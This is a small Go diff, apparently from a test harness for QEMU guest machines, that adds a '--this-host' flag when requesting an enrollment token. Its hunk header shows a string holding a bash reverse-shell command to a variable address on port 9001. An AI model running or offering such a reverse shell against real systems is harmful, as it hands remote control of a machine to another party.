@@ -167,7 +167,8 @@ bash -i >& /dev/tcp/` + addressA + `/9001 0>&1
 // boot makes the guest's disk and starts it.
 func (h *hosts) boot(g *guestHost) error {
 	var token struct{ Token string }
-	if err := h.ask(&token, "enroll", "token"); err != nil {
+	// The guests reach the loopback of this machine through qemu, which the server cannot know.
+	if err := h.ask(&token, "enroll", "token", "--this-host"); err != nil {
 		return err
 	}
 	dir := filepath.Join(h.work, g.name)
